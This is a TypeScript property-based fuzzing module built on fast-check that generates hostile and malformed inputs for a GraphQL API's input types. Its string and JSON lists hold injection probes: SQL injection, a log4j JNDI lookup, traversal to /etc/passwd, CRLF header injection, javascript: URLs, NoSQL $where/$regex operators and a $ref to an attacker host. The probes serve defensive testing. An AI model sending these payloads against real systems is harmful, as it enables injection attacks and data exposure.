// Values for every input type of the schema, as a hostile or careless client would send them:
// hostile strings, edge numbers, odd JSON, real and made-up ids, now and then a value of the wrong type.
import fc from 'fast-check';
import {
  type GraphQLEnumType,
  type GraphQLInputObjectType,
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { ID_PREFIXES } from '../../src/core/ids.ts';

const long = (n: number, unit = 'a') => unit.repeat(n);

/** Strings that have broken services before: NUL, lone surrogates, lengths at every limit, injections. */
const UNSTORABLE_STRINGS = ['\u0000', 'evt_\u0000', 'a\u0000b', 'order.shipped\u0000', '\ud800', 'x\udfffy', '\udc00\ud800', 'acme\ud83d'];
const HOSTILE_STRINGS = [
  '',
  ' ',
  '😀',
  '\u202etxt.exe',
  '\u00e9\u0301',
  "' OR 1=1 --",
  '%',
  '_',
  '\\',
  '"',
  'a\r\nX-Injected: 1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j probe, sent as it is
  '${jndi:ldap://x}',
  '../../etc/passwd',
  'order.shipped',
  '*',
  'order.*',
  'a..b',
  'https://hooks.example/in',
  'http://127.0.0.1:1/hook',
  'ftp://x.example/',
  'javascript:alert(1)',
  'https://user:pw@x.example/',
  'acme',
  'tenant:1',
  'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
  'bm90LWEtY3Vyc29y',
  long(127),
  long(128),
  long(129),
  long(200),
  long(201),
  long(255),
  long(256),
  long(513),
  long(2000),
  long(2001),
  long(2048),
  long(2049),
  long(3000),
  long(300, 'é'),
  long(70_000),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...UNSTORABLE_STRINGS) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
);

const hex32 = fc.stringMatching(/^[0-9a-f]{32}$/);

/** Ids: the world's real ones (of every kind), well-formed ones that exist nowhere, and junk. */
export function idValue(realIds: readonly string[]): fc.Arbitrary<string> {
  const prefixes = Object.values(ID_PREFIXES);
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...realIds) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...realIds), fc.constantFrom('\u0000', '\ud800', ' ', 'x')).map(([id, tail]) => id + tail) },
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...prefixes), hex32).map(([p, h]) => `${p}_${h}`) },
    { weight: 1, arbitrary: fc.constantFrom('zzz_1', 'whk_', '_whk', 'garbage', 'prj_missing', long(65), long(1000)) },
    { weight: 2, arbitrary: hostileString },
  );
}

const INT_EDGES = [0, -1, 1, 2, 10, 20, 99, 100, 101, 1000, 1001, 10_000, 10_001, 86_400, 86_401, 604_801, 2_147_483_647, -2_147_483_648];
const FLOAT_EDGES = [0, -0, 0.5, 1, 1.5, 2, 10, 11, 60, 1e-300, 5e-324, 1e308, -1, -1e308, 604_800, 604_801];

const int = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...INT_EDGES) }, { weight: 1, arbitrary: fc.integer({ min: -(2 ** 31), max: 2 ** 31 - 1 }) });
const float = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...FLOAT_EDGES) },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
);

const dateTime = fc.oneof(
  fc.constantFrom(
    '1970-01-01T00:00:00Z',
    '9999-12-31T23:59:59Z',
    '0001-01-01T00:00:00Z',
    '2026-02-30T00:00:00Z',
    'yesterday',
    '',
    '2026-01-01T00:00:00+14:00',
    '+275760-09-13T00:00:00Z',
  ),
  fc.date({ min: new Date('1900-01-01'), max: new Date('2200-01-01'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constant(new Date(Date.now() - 3_600_000).toISOString()),
);

function nested(depth: number): unknown {
  let value: unknown = { leaf: true };
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** JSON the way the schema's JSON inputs meet it: event data, filters, JSON Schemas, headers, and odd shapes. */
const ODD_JSON: unknown[] = [
  null,
  {},
  [],
  'a string',
  42,
  true,
  { a: 1 },
  { order: { id: 'o_1', total: 12.5, items: [{ sku: 'x' }] } },
  nested(63),
  nested(64),
  nested(65),
  nested(200),
  { blob: long(300 * 1024) },
  { blob: long(256 * 1024 - 20) },
  { '\u0000': 1 },
  { a: 'x\u0000y' },
  { a: '\ud800' },
  { '\udfff': 'k' },
  { 'data.amount': { $gt: 10 } },
  { type: { $regex: '^(a+)+$' } },
  { type: { $regex: 'order\\..*' } },
  { $where: 'this.a > 1' },
  { $expr: { $eq: ['$a', 1] } },
  { 'data.severity': { $in: ['high', 'critical'] } },
  { $or: [{ type: 'a.b' }, { 'data.x': { $exists: true } }] },
  { type: 'object', properties: { id: { type: 'string' } }, required: ['id'] },
  { $ref: 'http://attacker.example/schema.json' },
  { $ref: '#/$defs/a', $defs: { a: { $ref: '#/$defs/a' } } },
  { type: 'string', pattern: '^(a|a)*$' },
  { 'X-Trace': '1' },
  { 'webhook-signature': 'forged' },
  { 'X-A': 'a\r\nX-B: b' },
  { 'X-A': long(2000) },
  { '••••1234': '••••1234' },
  Object.fromEntries(Array.from({ length: 25 }, (_, i) => [`X-H${i}`, 'v'])),
];

export const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...ODD_JSON) },
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }) },
);

/** A value of another type altogether: the server must say BAD_USER_INPUT, never fail. */
const wrongType = fc.constantFrom<unknown>(42, 1.5, true, 'ten', {}, [], [1, 2], 2 ** 31, -(2 ** 53), 'NOPE');

export interface ValueOptions {
  realIds: readonly string[];
  /** How often a value is of the wrong type (0..1). */
  wrongTypeRate: number;
}

/** An arbitrary of values of `type`, nulls included where the type allows them. */
export function valuesOf(type: GraphQLInputType, opts: ValueOptions, depth = 0): fc.Arbitrary<unknown> {
  const inner = isNonNullType(type) ? namedValuesOf(type.ofType, opts, depth) : fc.option(namedValuesOf(type, opts, depth), { nil: null, freq: 8 });
  const wrongWeight = Math.round(opts.wrongTypeRate * 100);
  return wrongWeight ? fc.oneof({ weight: 100 - wrongWeight, arbitrary: inner }, { weight: wrongWeight, arbitrary: wrongType }) : inner;
}

function namedValuesOf(type: GraphQLInputType, opts: ValueOptions, depth: number): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return valuesOf(type, opts, depth);
  if (isListType(type)) {
    const item = valuesOf(type.ofType, opts, depth + 1);
    return fc.oneof({ weight: 8, arbitrary: fc.array(item, { maxLength: 3 }) }, { weight: 1, arbitrary: fc.array(item, { minLength: 95, maxLength: 110 }) });
  }
  if (isInputObjectType(type)) return inputObject(type, opts, depth);
  if (isEnumType(type)) return fc.constantFrom(...(type as GraphQLEnumType).getValues().map((v) => v.value as string));
  if (!isScalarType(type)) throw new Error(`no values for ${String(type)}`);
  switch (type.name) {
    case 'ID':
      return idValue(opts.realIds);
    case 'String':
      return hostileString;
    case 'Int':
      return int;
    case 'Float':
      return float;
    case 'Boolean':
      return fc.boolean();
    case 'DateTime':
      return dateTime;
    case 'JSON':
      return jsonValue;
    default:
      return fc.oneof(hostileString, jsonValue);
  }
}

function inputObject(type: GraphQLInputObjectType, opts: ValueOptions, depth: number): fc.Arbitrary<unknown> {
  if (depth > 3) return fc.constant({});
  const fields = Object.values(type.getFields());
  const model = Object.fromEntries(fields.map((f) => [f.name, valuesOf(f.type, opts, depth + 1)]));
  // Required fields are nearly always there (a missing one is a coercion error worth a few tries).
  const required = fields.filter((f) => isNonNullType(f.type)).map((f) => f.name);
  return fc.oneof({ weight: 19, arbitrary: fc.record(model, { requiredKeys: required }) }, { weight: 1, arbitrary: fc.record(model, { requiredKeys: [] }) });
}
